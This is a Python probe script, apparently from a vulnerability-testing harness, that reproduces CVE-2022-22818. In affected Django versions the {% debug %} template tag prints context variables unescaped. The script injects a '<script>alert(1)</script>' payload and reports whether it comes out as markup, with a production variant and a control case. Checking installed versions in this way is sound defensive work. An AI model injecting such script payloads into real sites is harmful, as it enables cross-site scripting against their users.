# /// vertice-probe
# id = "PYSEC-2022-19"
# aliases = ["CVE-2022-22818", "GHSA-95rw-fx8r-36v6"]
# package = "django"
# summary = """\
#   The debug template tag prints the template's variables without escaping them, so a value from a user runs as \
#   script."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N" }]
# cwe = ["CWE-79"]
# kind = "xss"
# symbols = ["django.template.defaulttags.debug", "django.template.Template", "django.shortcuts.render"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "2.2" },
#   { fixed = "2.2.27" },
#   { introduced = "3.2" },
#   { fixed = "3.2.12" },
#   { introduced = "4.0" },
#   { fixed = "4.0.2" },
# ] }]
#
# [cases]
# attack = "a variable with a script comes out of {% debug %} as markup"
# [cases.variants]
# production = "the same with DEBUG off"
# [cases.controls]
# debug = "with DEBUG on the tag lists variables and modules"
#
# [test]
# vulnerable = "4.0.1"
# fixed = "4.0.2"
# python = "<3.13"
# ///
"""CVE-2022-22818: script through the debug tag."""

import json
import sys


def render(debug, context):
    import django
    from django.conf import settings

    settings.configure(
        DEBUG=debug, USE_I18N=False, TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}]
    )
    django.setup()
    from django.template import Context, Template

    return Template("<pre>{% debug %}</pre>{{ name }}").render(Context(context))


SCRIPT = "<script>alert(1)</script>"


def judge(output):
    if not output.startswith("<pre>") or not output.endswith("</pre>&lt;script&gt;alert(1)&lt;/script&gt;"):
        raise RuntimeError("the rest of the template was not rendered: %r" % output[-80:])
    if SCRIPT in output:
        return "exploited", "the context's script stands in the page as markup"
    if "<pre></pre>" in output:
        return "blocked", "the tag prints nothing outside of debugging"
    if "&lt;script&gt;alert(1)" in output.split("</pre>")[0]:
        return "blocked", "the context's script is escaped"
    raise RuntimeError("neither printed nor escaped: %r" % output[:80])


def attack():
    return judge(render(True, {"name": SCRIPT}))


def production():
    return judge(render(False, {"name": SCRIPT}))


def debug():
    output = render(True, {"name": "alice"})
    good = "alice" in output.split("</pre>")[0] and "django" in output and output.endswith("</pre>alice")
    return ("works", "context and modules are listed") if good else ("broken", output[:80])


CASES = {"attack": attack, "production": production, "debug": debug}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
